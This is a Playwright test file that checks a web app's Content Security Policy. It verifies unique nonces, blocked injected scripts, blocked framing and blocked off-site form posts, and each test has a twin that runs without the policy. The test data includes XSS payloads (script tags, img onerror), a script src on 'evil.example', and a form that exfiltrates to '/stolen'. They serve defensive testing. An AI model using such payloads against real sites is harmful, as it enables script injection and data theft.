import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { changeAnswers } from '../support/change-answers';
import { collectViolations } from '../support/collect-violations';
import { signInAs } from '../support/sign-in-as';

const PUBLIC_PAGES = [
  '/',
  '/sign-in',
  '/sign-in/refused?reason=wrong-state',
  '/docs/api',
  '/docs/problems/key-revoked',
  '/report-leak',
  '/status',
  '/learn',
  '/learn/api-key',
  '/learn/oauth',
  '/learn/mtls',
  '/learn/compare',
  '/learn/picker',
  '/learn/take',
  '/learn/scenarios',
  '/learn/mistakes',
  '/learn/attacks',
  '/learn/coverage',
  '/learn/quiz',
  '/oauth/device',
  '/there-is-no-such-page',
];

const APP_PAGES = [
  '/dashboard',
  '/events',
  '/invoices',
  '/settings/profile',
  '/settings/api-keys',
  '/settings/api-keys/new?preset=read-only',
  '/settings/trusted-issuers',
  '/settings/trusted-issuers/new',
  '/settings/trusted-issuers/new?platform=github-actions',
  '/settings/sessions',
  '/settings/webhooks/new',
  '/settings/connected-apps',
  '/settings/members',
  '/settings/single-sign-on',
  '/settings/audit-log',
  '/developers/apps',
  '/developers/request-logs',
];

/** Visits a page, opens what opens, and leaves a link of it for the router to follow. */
async function lookAround(page: Page, path: string): Promise<void> {
  const answer = await page.goto(path, { waitUntil: 'load' });
  const policy = answer?.headers()['content-security-policy'] ?? '';
  expect(policy, path).toContain("default-src 'none'");
  expect(policy, path).not.toContain('unsafe-');
  for (const button of await page.locator('button[aria-haspopup]:visible').all()) {
    await button.click();
    await page.keyboard.press('Escape');
  }
}

/** Many pages, each rendered anew: generous on a machine that has other work. */
const MANY_PAGES_MS = 600_000;

test('no public page reports a violation, and no policy has an unsafe word', async ({ page }) => {
  test.setTimeout(MANY_PAGES_MS);
  const violations = await collectViolations(page);
  for (const path of PUBLIC_PAGES) await lookAround(page, path);
  expect(violations).toEqual([]);
});

test('nor does one behind the sign-in, nor the way there', async ({ page }) => {
  test.setTimeout(MANY_PAGES_MS);
  const violations = await collectViolations(page);
  await signInAs(page);
  for (const path of APP_PAGES) await lookAround(page, path);
  await page.goto('/dashboard');
  await page.getByRole('link', { name: 'Events', exact: true }).first().click();
  await page.waitForURL('**/events**');
  expect(violations).toEqual([]);
});

test('a nonce is good for one answer', async ({ page }) => {
  const nonces = new Set<string | undefined>();
  for (const path of ['/', '/', '/sign-in', '/sign-in']) {
    const answer = await page.request.get(path);
    const nonce = /'nonce-([^']+)'/.exec(answer.headers()['content-security-policy'] ?? '')?.[1];
    expect(await answer.text()).toContain(`nonce="${nonce}"`);
    nonces.add(nonce);
  }
  expect(nonces.size).toBe(4);
});

test('a nonce that the caller sends is not taken', async ({ page }) => {
  const headers = { 'x-nonce': 'chosen', 'content-security-policy': "script-src 'nonce-chosen'" };
  const answer = await page.request.get('/sign-in', { headers });
  expect(await answer.text()).not.toContain('chosen');
});

for (const path of ['/', '/sign-in']) {
  test.describe(`an injected script on ${path}`, () => {
    const injected = `<script>window.attack = 'ran'</script><img src="/no" onerror="window.attack = 'ran'">`;
    const attack = (page: Page) =>
      page.evaluate(() => (window as unknown as { attack?: string }).attack);

    test('does not run', async ({ page }) => {
      const violations = await collectViolations(page);
      await changeAnswers(page, path, { policy: true, injected });
      await page.goto(path, { waitUntil: 'load' });
      await expect.poll(() => violations.length).toBeGreaterThanOrEqual(2);
      expect(await attack(page)).toBeUndefined();
    });

    test('twin: without the policy it does', async ({ page }) => {
      await changeAnswers(page, path, { policy: false, injected });
      await page.goto(path, { waitUntil: 'load' });
      await expect.poll(() => attack(page)).toBe('ran');
    });
  });
}

test.describe('text that becomes HTML or a script', () => {
  const attempts = (page: Page) =>
    page.evaluate(() => {
      const tryIt = (attempt: () => void) => {
        try {
          attempt();
          return 'took it';
        } catch (error) {
          return error instanceof Error ? error.name : 'refused';
        }
      };
      return [
        tryIt(() => {
          document.body.innerHTML = '<img src=x onerror=alert(1)>';
        }),
        tryIt(() => {
          document.createElement('script').src = 'https://evil.example/x.js';
        }),
      ];
    });

  test('is refused by the one gate it has to pass', async ({ page }) => {
    await page.goto('/sign-in');
    expect(await attempts(page)).toEqual(['TypeError', 'TypeError']);
  });

  test('twin: without the policy it is taken', async ({ page }) => {
    await changeAnswers(page, '/sign-in', { policy: false });
    await page.goto('/sign-in');
    expect(await attempts(page)).toEqual(['took it', 'took it']);
  });
});

test.describe('another site', () => {
  let server: Server;
  let other: string;
  const received: string[] = [];

  test.beforeAll(async () => {
    server = createServer((request, response) => {
      received.push(request.url ?? '');
      response.setHeader('content-type', 'text/html');
      response.end(`<iframe src="${test.info().project.use.baseURL}/sign-in"></iframe>`);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    other = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  test.afterAll(() => server.close());

  const framedHeading = (page: Page) =>
    page.frameLocator('iframe').getByRole('heading', { name: 'Sign in' });

  test('cannot frame ours', async ({ page }) => {
    const refused = page.waitForEvent('console', (message) => /frame/i.test(message.text()));
    await page.goto(other);
    await refused;
    await expect(framedHeading(page)).toHaveCount(0);
  });

  test('twin: without the policy it can', async ({ page }) => {
    await changeAnswers(page, '/sign-in', { policy: false });
    await page.goto(other);
    await expect(framedHeading(page)).toBeVisible();
  });

  const formTo = (url: string) =>
    `<form action="${url}/stolen"><input name="a" value="1"><button>Win</button></form>`;

  test('gets no form of ours', async ({ page }) => {
    const violations = await collectViolations(page);
    await changeAnswers(page, '/', { policy: true, injected: formTo(other) });
    await page.goto('/');
    // A click would wait for the navigation that the policy stops.
    await page.getByRole('button', { name: 'Win' }).dispatchEvent('click');
    await expect.poll(() => violations.join()).toContain('form-action');
    expect(received.filter((url) => url.startsWith('/stolen'))).toEqual([]);
  });

  test('twin: without the policy it does', async ({ page }) => {
    await changeAnswers(page, '/', { policy: false, injected: formTo(other) });
    await page.goto('/');
    await page.getByRole('button', { name: 'Win' }).click();
    await expect.poll(() => received.join()).toContain('/stolen');
  });
});
